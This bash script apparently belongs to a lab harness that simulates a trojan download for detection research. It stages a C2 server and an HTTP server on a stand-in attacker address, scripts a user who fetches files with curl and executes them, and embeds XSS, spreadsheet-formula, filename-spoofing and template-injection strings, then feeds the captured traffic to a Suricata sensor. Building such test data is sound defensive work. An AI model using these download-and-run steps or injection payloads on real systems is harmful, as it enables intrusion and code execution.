#!/bin/bash
# Records the sample hostile. Run as root on a machine of your own; results in /opt/lab/out/hostile.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" desk-23 10.20.0.41 fd00:20::41

install -d -o $OUT_UID "$RUN/share"
{ echo '#!/usr/bin/python3'; cat "$here/../lib/payloads.py" "$RUN/parade.py"; } > "$RUN/share/parade.py"
cp "$RUN/payloads.tsv" "$RUN/share/"
# The programs that it drops: they end at once, and load nothing.
echo 'void _start(void) { __asm__("syscall" : : "a"(231), "D"(0)); }' |
  gcc -O1 -static -nostdlib -x c -o "$RUN/share/seed" -
lab_outside python3 "$RUN/c2.py" $BAD_IP 8447 "$RUN/seen.json" 2901414 \
  $'LAB TROJAN "><script>alert(1)</script> =cmd|\'/c calc\'!A0 [x](http://evil.example) @all \u202egnp.\x1b[31mexe\r\n{{7*7}}' who list parade
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/share" 80

NOISE_USERS="alice:builder emi:writer"
lab_audit_on ENRICHED 500 1
lab_noise_on 6
sleep 8
lab_terminal kenji <<TYPED
2 curl -s -O http://$BAD_IP/payloads.tsv -O http://$BAD_IP/seed
2 curl -s -o '"><svg onload=alert(9)>.py' http://$BAD_IP/parade.py
1 chmod +x *.py
1 ./*.py
20 ls -la Documents
TYPED
sleep 4
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" suricata "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
